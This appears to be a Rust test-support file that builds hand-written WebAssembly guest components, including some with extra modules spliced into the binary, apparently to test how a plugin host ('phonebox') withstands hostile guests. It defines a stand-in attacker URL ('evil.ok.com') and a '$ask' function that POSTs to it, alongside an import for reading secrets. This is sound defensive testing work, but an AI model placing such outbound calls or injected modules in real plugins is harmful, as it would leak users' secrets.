//! Components written by hand, where no compiler would write them so: a core module in the text format, with the world's
//! types around it.

use wit_component::{ComponentEncoder, StringEncoding, embed_component_metadata};
use wit_parser::Resolve;

/// A core module of the world, with the parts that an attack replaces. Whatever it leaves alone is ordinary.
///
/// Memory: what is at 16 says `sent`; 512 to 1023 are for answers; text is at 1024 («hello») and 2048 ([`URL`]); from 64 KiB
/// on `$realloc` hands out.
pub(crate) struct Core {
    pub(crate) encoding: StringEncoding,
    /// More imports.
    pub(crate) imports: String,
    pub(crate) memory: String,
    /// The body of `cabi_realloc`: old pointer, old size, alignment, size, to a pointer.
    pub(crate) realloc: String,
    /// The body of `deliver`: `$event` to a pointer to the result.
    pub(crate) deliver: String,
    /// The body of what is called after `deliver`, with its result.
    pub(crate) post: String,
    /// More of everything.
    pub(crate) rest: String,
    /// Export an interface with a resource of the guest's own too: then `$new` and `$drop` make and drop its handles, and
    /// this is the body of its destructor.
    pub(crate) destructor: Option<String>,
}

/// The URL that `$ask` sends a POST to.
pub(crate) const URL: &str = "https://evil.ok.com/core";

/// Returns what says `sent`.
pub(crate) const SENT: &str = "(i32.const 16)";

impl Default for Core {
    fn default() -> Self {
        Self {
            encoding: StringEncoding::UTF8,
            imports: String::new(),
            memory: "(memory (export \"memory\") 4)".to_owned(),
            realloc: "(call $bump (local.get 3))".to_owned(),
            deliver: SENT.to_owned(),
            post: String::new(),
            rest: String::new(),
            destructor: None,
        }
    }
}

impl Core {
    /// A guest whose `deliver` does this.
    pub(crate) fn deliver(body: impl Into<String>) -> Self {
        Self {
            deliver: body.into(),
            ..Self::default()
        }
    }

    pub(crate) fn component(&self) -> Vec<u8> {
        let mut resolve = Resolve::default();
        let wit = concat!(env!("CARGO_MANIFEST_DIR"), "/../../guest-sdk/wit");
        let (package, _) = resolve.push_dir(wit).expect("the world is well-formed");
        let more = "package test:raw; interface handles { resource handle; } world raw { \
            include phonebox:action/custom-phone-provider@1.0.0; export handles; }";
        let (package, world) = if self.destructor.is_some() {
            (resolve.push_str("raw.wit", more).unwrap(), "raw")
        } else {
            (package, "custom-phone-provider")
        };
        let world = resolve.select_world(&[package], Some(world)).unwrap();
        let text = self.text();
        let mut module = wat::parse_str(&text).unwrap_or_else(|error| panic!("{error}\n{text}"));
        embed_component_metadata(&mut module, &resolve, world, self.encoding).unwrap();
        ComponentEncoder::default()
            .module(&module)
            .unwrap_or_else(|error| panic!("{error:#}\n{text}"))
            .encode()
            .unwrap_or_else(|error| panic!("{error:#}\n{text}"))
    }

    fn text(&self) -> String {
        let Self {
            imports,
            memory,
            realloc,
            deliver,
            post,
            rest,
            ..
        } = self;
        let url_length = URL.len();
        let (resource, destructor) = match &self.destructor {
            None => ("", String::new()),
            Some(body) => (
                r#"(import "[export]test:raw/handles" "[resource-new]handle" (func $new (param i32) (result i32)))
                   (import "[export]test:raw/handles" "[resource-drop]handle" (func $drop (param i32)))"#,
                format!(
                    r#"(func (export "test:raw/handles#[dtor]handle") (param $rep i32) {body})"#
                ),
            ),
        };
        format!(
            r#"(module
  (import "phonebox:action/log@1.0.0" "write" (func $log (param i32 i32 i32)))
  (import "phonebox:action/secrets@1.0.0" "get" (func $secret (param i32 i32 i32)))
  (import "phonebox:action/cache@1.0.0" "set"
    (func $cache-set (param i32 i32 i32 i32 i32 f64 i32 f64 i32)))
  (import "phonebox:action/http@1.0.0" "send"
    (func $send (param i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i32)))
  (import "$root" "event-json" (func $event-json (param i32)))
  {resource}
  {imports}
  {memory}
  (data (i32.const 1024) "hello")
  (data (i32.const 1100) "POST")
  (data (i32.const 2048) "{URL}")
  (global $top (mut i32) (i32.const 65536))
  ;; Hands out the next bytes, and grows the memory where they do not fit.
  (func $bump (param $size i32) (result i32)
    (local $at i32)
    (local.set $at (i32.and (i32.add (global.get $top) (i32.const 7)) (i32.const -8)))
    (global.set $top (i32.add (local.get $at) (local.get $size)))
    (block $fits
      (br_if $fits (i32.le_u (global.get $top) (i32.shl (memory.size) (i32.const 16))))
      (br_if $fits (i32.ne (i32.const -1) (memory.grow (i32.add (i32.const 1)
        (i32.sub (i32.shr_u (global.get $top) (i32.const 16)) (memory.size))))))
      unreachable)
    (local.get $at))
  ;; Returns an error with this text.
  (func $fail (param $at i32) (param $length i32) (result i32)
    (i32.store (i32.const 512) (i32.const 1))
    (i32.store (i32.const 516) (local.get $at))
    (i32.store (i32.const 520) (local.get $length))
    (i32.const 512))
  ;; POSTs to the URL and returns whether that failed.
  (func $ask (result i32)
    (call $send (i32.const 1100) (i32.const 4) (i32.const 2048) (i32.const {url_length})
      (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 600))
    (i32.load8_u (i32.const 600)))
  (func $say (call $log (i32.const 1) (i32.const 1024) (i32.const 5)))
  (func $realloc (export "cabi_realloc") (param i32 i32 i32 i32) (result i32) {realloc})
  (func $deliver (export "deliver") (param $event i32) (result i32) {deliver})
  (func (export "cabi_post_deliver") (param i32) {post})
  {destructor}
  {rest}
)"#
        )
    }
}

/// The component with one more core module in it, instantiated after the others. It may import nothing.
pub(crate) fn with_module(component: &[u8], module: &str) -> Vec<u8> {
    with_instance(component, module, [1, 2])
}

/// The component with one more component in it, instantiated after everything else. It may import nothing; what it does, it
/// does as it starts.
pub(crate) fn with_component(component: &[u8], inner: &str) -> Vec<u8> {
    with_instance(component, inner, [4, 5])
}

/// The component with this in a section of the first kind, and its instance in one of the second kind.
fn with_instance(component: &[u8], inner: &str, [definition, instance]: [u8; 2]) -> Vec<u8> {
    let inner = wat::parse_str(inner).unwrap_or_else(|error| panic!("{error}\n{inner}"));
    let index = sections(component)
        .iter()
        .filter(|(id, _)| *id == definition)
        .count();
    let mut instantiated = vec![1, 0];
    leb(&mut instantiated, index);
    instantiated.push(0);
    let mut component = component.to_vec();
    for (id, content) in [(definition, inner), (instance, instantiated)] {
        component.push(id);
        leb(&mut component, content.len());
        component.extend(content);
    }
    component
}

/// A component's sections: what each is, and where it ends.
pub(crate) fn sections(component: &[u8]) -> Vec<(u8, usize)> {
    let mut sections = Vec::new();
    let mut at = 8;
    while at < component.len() {
        let id = component[at];
        let (mut length, mut shift) = (0, 0);
        loop {
            at += 1;
            length |= usize::from(component[at] & 0x7f) << shift;
            shift += 7;
            if component[at] & 0x80 == 0 {
                break;
            }
        }
        at += 1 + length;
        sections.push((id, at));
    }
    sections
}

fn leb(into: &mut Vec<u8>, mut number: usize) {
    while number >= 0x80 {
        into.push(u8::try_from(number & 0x7f).unwrap() | 0x80);
        number >>= 7;
    }
    into.push(u8::try_from(number).unwrap());
}
